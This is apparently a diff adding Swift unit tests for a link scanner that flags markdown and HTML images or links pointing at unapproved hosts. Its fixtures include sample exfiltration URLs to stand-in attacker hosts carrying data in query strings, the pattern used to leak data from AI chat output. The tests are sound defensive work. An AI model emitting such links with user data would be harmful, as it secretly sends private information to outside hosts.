@@ -64,3 +64,36 @@ import Testing
         #expect(vault.restore("<EMAIL_18> <CREDIT_CARD_1>") == "jo.doe@example.com 4111 1111 1111 1111")
     }
 }
+
+@Suite struct LinkScannerTests {
+    func found(_ text: String, allowed: [String] = []) -> [String] {
+        LinkScanner.find(text, allowedHosts: allowed).map { link in
+            let s = Array(text.unicodeScalars)
+            return link.type + " " + link.host + " " + String(String.UnicodeScalarView(s[link.start..<link.end]))
+        }
+    }
+
+    @Test func imagesAndDataLinks() {
+        #expect(found("see ![chart](https://evil.example/p.png?q=secret) ok") == ["MARKDOWN_IMAGE evil.example ![chart](https://evil.example/p.png?q=secret)"])
+        #expect(found("![a](https://x.example/a.png \"title\") done") == ["MARKDOWN_IMAGE x.example ![a](https://x.example/a.png \"title\")"])
+        #expect(found("![t][ref]\n\n[ref]: https://wuzzi.net/azure=DATA") == ["MARKDOWN_IMAGE wuzzi.net [ref]: https://wuzzi.net/azure=DATA"])
+        #expect(found("<img src=\"https://evil.example/x?d=1\" width=1>") == ["HTML_IMAGE evil.example <img src=\"https://evil.example/x?d=1\" width=1>"])
+        #expect(found("[click](https://evil.example/?q=hello)") == ["MARKDOWN_LINK evil.example [click](https://evil.example/?q=hello)"])
+        #expect(found("![x](//cdn.evil.example/a.png)") == ["MARKDOWN_IMAGE cdn.evil.example ![x](//cdn.evil.example/a.png)"])
+    }
+
+    @Test func harmlessOnes() {
+        #expect(found("read [the docs](https://swift.org/documentation/)").isEmpty)  // a plain link needs a click and carries nothing
+        #expect(found("![logo](https://cdn.example.com/logo.png)", allowed: ["example.com"]).isEmpty)
+        #expect(found("![local](images/a.png) and [x](#anchor)").isEmpty)
+        #expect(found("array[i](j) and f[0](1)").isEmpty)
+        #expect(found("[ref]: https://swift.org/").isEmpty)
+    }
+
+    @Test func adversarialInputStaysLinear() {
+        for piece in ["[", "![a](", "](", "<img ", "[a]: ", "![a](https://x.example/"] {
+            let text = String(repeating: piece, count: 20_000)
+            _ = LinkScanner.find(text)
+        }
+    }
+}
